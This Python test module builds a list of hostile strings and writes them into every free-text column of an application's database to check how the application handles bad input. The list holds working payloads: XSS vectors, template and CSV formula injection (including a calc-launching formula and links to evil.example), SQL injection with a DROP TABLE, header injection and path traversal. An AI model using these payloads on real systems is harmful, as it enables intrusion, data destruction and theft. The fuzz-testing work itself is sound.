"""Words that mean harm, and a house whose every free word was replaced by them."""

from __future__ import annotations

import json
import sqlite3
from collections.abc import Sequence
from pathlib import Path

CALL = "alert(1)"
NAUGHTY: tuple[str, ...] = (
    *(f"<{tag}>{CALL}</{tag}>" for tag in ("script", "ScRiPt", "svg/onload=alert(1)", "style")),
    *(
        f"<{tag} on{event}={CALL}>"
        for tag in ("img src=x", "body", "input autofocus", "details open", "video src=x")
        for event in ("error", "load", "focus", "toggle", "mouseover")
    ),
    *(
        f'<a href="{scheme}{CALL}">x</a>'
        for scheme in (
            "javascript:",
            "JaVa\tScRiPt:",
            "&#106;avascript:",
            "data:text/html,",
            "vbscript:",
        )
    ),
    *(
        f"{scheme}{CALL}"
        for scheme in ("javascript:", "data:text/html,<script>", " javascript:", "\x01javascript:")
    ),
    *(
        f"{end}<script>{CALL}</script>"
        for end in (
            "</title>",
            "</textarea>",
            "</script>",
            "</style>",
            "</option></select>",
            "</bdi>",
            "-->",
            "--><!--",
            "]]>",
            '">',
            "'>",
            "`>",
            "</td></tr></table>",
            "</form>",
            "</template>",
            "<!--",
        )
    ),
    *(
        f"{quote} {what}={CALL} x={quote}"
        for quote in ('"', "'", "`", "")
        for what in ("onfocus", "onmouseover", "style", "autofocus onfocus", "hx-get", "data-key")
    ),
    "{{7*7}}",
    "${7*7}",
    "{%print(7*7)%}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{config}}",
    "{{''.__class__}}",
    "$committee",
    "${purpose}",
    "%s%s%s%n",
    "%(name)s",
    "{0}",
    "{name!r}",
    "\\{{x}}",
    "{# x #}",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    ";=1+1",
    ',"=1+1',
    "|=1+1",
    "\x00=1+1",
    "' OR 1=1 --",
    '"; DROP TABLE post; --',
    "%",
    "_",
    "\\",
    "\\'",
    "\\0",
    "a' UNION SELECT 1 --",
    "&lt;script&gt;",
    "&amp;amp;",
    "&#60;img&#62;",
    "&nbsp;",
    "&",
    "&#0;",
    "&#xd800;",
    "<",
    ">",
    '"',
    "'",
    "\u202egnp.exe",
    "\u2066a\u2069b",
    "\u200f\u200e\u061c",
    "\u202a\u202b\u202c\u202d",
    "abc\u2067def",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f"
    * 9,
    "\x00",
    "a\x00b",
    "\x07\x08\x1b[31m",
    "\x7f",
    "\x85",
    "\u2028x\u2029",
    "\ufeff",
    "\ufffe\uffff",
    "\U0010ffff",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f3fd" * 20,
    "\u200b" * 30,
    "\u3000",
    "\u00a0",
    "\u00ad" * 9,
    "\u0627\u0644\u0633\u0644\u0627\u0645 <b>x</b>",
    "\u05e9\u05dc\u05d5\u05dd",
    "\ufdfa" * 9,
    "\ud7ff\ue000",
    "x" * 10_000,
    "<" * 10_000,
    "word " * 2_000,
    "\n" * 500,
    "&" * 5_000,
    '"' * 3_000,
    "\u0e01\u0e49" * 3_000,
    "//evil.example",
    'https://evil.example/"onload=x',
    "http://[",
    "http://[::1",
    "http://x:99999999/",
    "http://",
    "https://a@b@c/",
    "https://\u2025/",
    "http://xn--/",
    "mailto:x?bcc=y",
    "https://e.example/ onx=1",
    "http:\\\\e",
    "\r\nSet-Cookie: a=b",
    "x\r\nBcc: all@evil.example",
    "a@b.c\n\nx",
    "../../etc/passwd",
    "CON",
    "null",
    "NaN",
    "undefined",
    "[object Object]",
    "__proto__",
    "constructor",
    "-0",
    "1e999",
    "9" * 400,
    "0x7fffffff",
    "",
    " ",
    "   \t ",
    ".",
    "<>",
    "<!>",
    "<?php phpinfo() ?>",
    "<![CDATA[x]]>",
    "<!DOCTYPE x>",
    "<a",
    "</",
    "<a b='",
    "<svg><p>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<form action=//evil.example><button>x",
    "<object data=x>",
    "<input formaction=javascript:alert(1)>",
    "<p style=background:url(//evil.example)>",
    "<img src=//evil.example/x>",
    "<button hx-get=//evil.example hx-trigger=load>",
    "<div data-row data-open=javascript:alert(1)>",
)

WRAPS = ("{}", '">{}', "'>{}", "</title>{}", "</textarea>{}", "--><!--{}-->", "{}\u202e", "a{}")
"""What carries a string out of where it was put."""

FREE: dict[str, tuple[str, ...]] = {
    "access_grant": ("name", "made_by"),
    "address": ("address", "basis", "noted_by"),
    "alert": ("seen_by",),
    "api_token": ("name",),
    "app_user": ("name", "made_by"),
    "attendance": ("name",),
    "author": ("name", "display_name", "bio", "url", "site"),
    "badge": ("issued_by", "revoked_by", "revoked_why"),
    "candidate": ("assignee", "claimed_by", "decided_by"),
    "charter": ("purpose", "cadence", "compensation", "published_by"),
    "committee": ("name", "made_by"),
    "committee_step": ("actor", "words"),
    "compensation": ("what", "entered_by", "settled_by", "cancelled_why"),
    "consent": ("words",),
    "context_event": ("title", "noted_by"),
    "decision": ("reason", "note", "actor"),
    "flag": ("evidence", "overridden_by", "override_reason"),
    "goal": ("title", "owner", "benefit_customer", "benefit_company", "closed_why"),
    "goal_change": ("actor", "reason"),
    "invitation": ("address", "subject", "body", "drafted_by", "approved_by", "sent_by"),
    "label": ("labelled_by",),
    "ledger_entry": ("what", "entered_by", "cancelled_why"),
    "measurement": ("note",),
    "meeting": ("title", "place", "facilitator", "minutes", "called_by", "cancelled_why"),
    "member": ("name", "address", "owner", "motives", "left_why", "thanked_by"),
    "moderation_step": ("actor", "words"),
    "offer": ("campaign", "contact", "made_by"),
    "outbox": ("receiver", "subject", "text", "problem", "approved_by"),
    "post": ("text", "title", "url", "link_title", "quoted", "thread_key"),
    "report": ("reporter", "words"),
    "reset": ("owner", "escalate_to", "closed_by"),
    "review_item": ("note", "decided_by", "claimed_by"),
    "saved_search": ("name", "query"),
    "source": ("name", "address", "problem"),
    "suggestion": ("title", "words", "owner", "decision_reason", "evidence"),
    "suggestion_step": ("actor", "words"),
    "template": ("subject", "body", "made_by"),
    "theme": ("name", "named_by"),
    "user_session": ("agent",),
}
"""Columns that hold what people wrote."""
ALWAYS = frozenset(
    ["title", "display_name", "bio", "url", "note", "link_title", "quoted", "motives"]
)
"""Filled where they are empty too; what says who did something is filled where somebody did."""
LISTS = {"charter": ("seniors",), "meeting": ("agenda", "prompts"), "theme": ("terms",)}
"""Columns that hold a list of words."""


def collected(folder: Path) -> list[str]:
    """The strings of public collections, each once."""
    found: list[str] = list(NAUGHTY)
    for path in sorted(folder.rglob("*")):
        name = str(path)
        if path.suffix == ".txt" and "LICENSE" not in name:
            found += path.read_text("utf-8", errors="replace").split("\n")
        elif path.name in ("blns.json", "payloads.json", "sanitizer_inputs.json"):
            found += [str(one) for one in json.loads(path.read_text("utf-8"))]
        elif path.name == "urltestdata.json":
            told = json.loads(path.read_text("utf-8"))
            found += [str(one["input"]) for one in told if isinstance(one, dict)]
        elif path.suffix == ".test":
            found.append(path.read_text("utf-8", errors="replace"))
    whole = (one.encode("utf-8", "replace").decode() for one in found)
    return list(dict.fromkeys(whole))


def wrapped(strings: Sequence[str], at_least: int) -> list[str]:
    """The strings, carried out of where they are put in as many ways as make that many."""
    made: dict[str, None] = {}
    for wrap in WRAPS:
        made |= dict.fromkeys(wrap.replace("{}", one) for one in strings)
        if len(made) >= at_least:
            break
    return list(made)


def replace_words(database: Path, strings: Sequence[str], turn: int = 0) -> None:
    """Put a string into every free word of the house, other ones each turn."""
    connection = sqlite3.connect(database)
    with connection:
        for table, columns in FREE.items():
            rows = [row for (row,) in connection.execute(f"SELECT rowid FROM {table} ORDER BY 1")]
            for place, column in enumerate((*columns, *LISTS.get(table, ()))):
                first = turn * len(rows) + place * 101
                words = [strings[(first + n) % len(strings)] for n in range(len(rows))]
                if column in LISTS.get(table, ()):
                    words = [json.dumps([word]) for word in words]
                filled = "" if column in ALWAYS else f" AND {column} IS NOT NULL"
                connection.executemany(
                    f"UPDATE OR IGNORE {table} SET {column} = ? WHERE rowid = ?{filled}",
                    zip(words, rows, strict=True),
                )
    connection.close()
